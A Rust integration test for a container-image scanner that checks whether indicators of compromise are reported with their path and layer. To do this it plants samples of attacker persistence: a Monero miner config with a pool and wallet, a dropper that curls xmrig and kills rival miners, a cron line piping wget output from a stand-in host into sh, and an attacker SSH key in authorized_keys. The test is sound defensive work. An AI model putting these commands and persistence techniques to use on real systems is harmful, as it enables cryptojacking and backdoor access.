//! Indicators of compromise through the binary: a miner config, a dropper,
//! a cron line and an attacker's SSH key planted in an image give the pool
//! with its port, the (checksum-valid) wallet, the download URLs and hosts
//! and the key's fingerprint — each with where it was seen — in `iocs[]`
//! and, one per line, with `scan -f iocs`.

use crate::support::*;
use imgscan_fixtures::*;
use serde_json::Value;
use std::process::Command;

/// A key made by `ssh-keygen` and the fingerprint `ssh-keygen -l` gives it.
fn attacker_key() -> Option<(String, String)> {
    if !have_tool("ssh-keygen") {
        return None;
    }
    let dir = fresh("ioc-key");
    std::fs::create_dir_all(&dir).unwrap();
    let key = dir.join("k");
    let made = Command::new("ssh-keygen")
        .args([
            "-q",
            "-t",
            "ed25519",
            "-N",
            "",
            "-C",
            "attacker@203.0.113.9",
            "-f",
        ])
        .arg(&key)
        .status()
        .unwrap();
    assert!(made.success());
    let public = std::fs::read_to_string(key.with_extension("pub")).unwrap();
    let listed = Command::new("ssh-keygen")
        .arg("-lf")
        .arg(key.with_extension("pub"))
        .output()
        .unwrap();
    let fingerprint = String::from_utf8(listed.stdout)
        .unwrap()
        .split_whitespace()
        .nth(1)
        .unwrap()
        .to_string();
    std::fs::remove_dir_all(&dir).unwrap();
    Some((public, fingerprint))
}

/// Where an indicator was seen: (path, layer) pairs.
type Places = Vec<(String, u64)>;

#[test]
fn indicators_are_listed_with_where_they_were_seen() {
    let Some((public, fingerprint)) = attacker_key() else {
        return;
    };
    let wallet = imgscan_signatures::monero::encode_address(18, &[0x33; 32], &[0x44; 32], None);
    let mut base = LayerTar::new();
    base.file("etc/os-release", "ID=debian\nVERSION_ID=12\n");
    let mut top = LayerTar::new();
    top.file(
        "opt/.cache/config.json",
        format!(
            r#"{{"donate-level": 1, "cpu": {{"max-threads-hint": 75}}, "pools": [{{"url": "gulf.moneroocean.stream:10128", "user": "{wallet}", "pass": "x"}}]}}"#
        ),
    );
    top.file(
        "tmp/.x/install.sh",
        "#!/bin/sh\nunset HISTFILE\npkill -f kdevtmpfsi; pkill -f kinsing\ncurl -fsSL http://203.0.113.5/xmrig.tar.gz -o /tmp/.x/x.tgz\n",
    );
    top.file(
        "etc/cron.d/update",
        "*/5 * * * * root wget -qO- http://dl.example.invalid/u.sh | sh\n",
    );
    top.file("root/.ssh/authorized_keys", &public);
    let dir = oci_dir(
        &Image::new(vec![base.finish(), top.finish()]),
        LayerCompression::Gzip,
    );
    let json = run(&[
        std::ffi::OsStr::new("scan"),
        "-f".as_ref(),
        "json".as_ref(),
        dir.as_os_str(),
    ]);
    let report: Value = serde_json::from_str(&json.stdout).unwrap();
    validate(&report);
    let iocs: Vec<(String, String, Places)> = report["iocs"]
        .as_array()
        .unwrap()
        .iter()
        .map(|i| {
            let places = i["where"]
                .as_array()
                .unwrap()
                .iter()
                .map(|w| {
                    (
                        w["path"].as_str().unwrap().to_string(),
                        w["layer"].as_u64().unwrap(),
                    )
                })
                .collect();
            (
                i["type"].as_str().unwrap().to_string(),
                i["value"].as_str().unwrap().to_string(),
                places,
            )
        })
        .collect();
    let has = |kind: &str, value: &str, path: &str| {
        iocs.iter().any(|(k, v, places)| {
            k == kind && v == value && places.iter().any(|(p, l)| p == path && *l == 1)
        })
    };
    for (kind, value, path) in [
        (
            "pool",
            "gulf.moneroocean.stream:10128",
            "/opt/.cache/config.json",
        ),
        ("wallet", wallet.as_str(), "/opt/.cache/config.json"),
        (
            "url",
            "http://203.0.113.5/xmrig.tar.gz",
            "/tmp/.x/install.sh",
        ),
        ("host", "203.0.113.5", "/tmp/.x/install.sh"),
        (
            "url",
            "http://dl.example.invalid/u.sh",
            "/etc/cron.d/update",
        ),
        ("host", "dl.example.invalid", "/etc/cron.d/update"),
        (
            "ssh-key",
            fingerprint.as_str(),
            "/root/.ssh/authorized_keys",
        ),
    ] {
        assert!(has(kind, value, path), "{kind} {value} {path}: {iocs:#?}");
    }

    let lines = run(&[
        std::ffi::OsStr::new("scan"),
        "-f".as_ref(),
        "iocs".as_ref(),
        dir.as_os_str(),
    ]);
    assert_eq!(lines.code, json.code, "{}", lines.stderr);
    assert!(
        lines
            .stdout
            .lines()
            .any(|l| l == format!("ssh-key\t{fingerprint}\t/root/.ssh/authorized_keys:1 (layer 1)")),
        "{}",
        lines.stdout
    );
    assert!(
        lines
            .stdout
            .lines()
            .any(|l| l == format!("wallet\t{wallet}\t/opt/.cache/config.json (layer 1)")),
        "{}",
        lines.stdout
    );
    // A rescan served from the layer cache gives the same indicators.
    let cache = fresh("ioc-cache");
    let cached = || {
        let out = run_with(
            &[
                std::ffi::OsStr::new("scan"),
                "-f".as_ref(),
                "json".as_ref(),
                dir.as_os_str(),
            ],
            |cmd| {
                cmd.env("IMGSCAN_CACHE_DIR", &cache);
            },
        );
        serde_json::from_str::<Value>(&out.stdout).unwrap()
    };
    let (cold, warm) = (cached(), cached());
    assert!(
        warm["summary"]["cache"]["hits"].as_u64().unwrap_or(0) > 0,
        "{}",
        warm["summary"]
    );
    assert_eq!(warm["iocs"], report["iocs"]);
    assert_eq!(cold["iocs"], report["iocs"]);
    std::fs::remove_dir_all(&cache).ok();
    let places: usize = report["iocs"]
        .as_array()
        .unwrap()
        .iter()
        .map(|i| i["where"].as_array().unwrap().len())
        .sum();
    assert_eq!(lines.stdout.lines().count(), places, "one line per place");
}
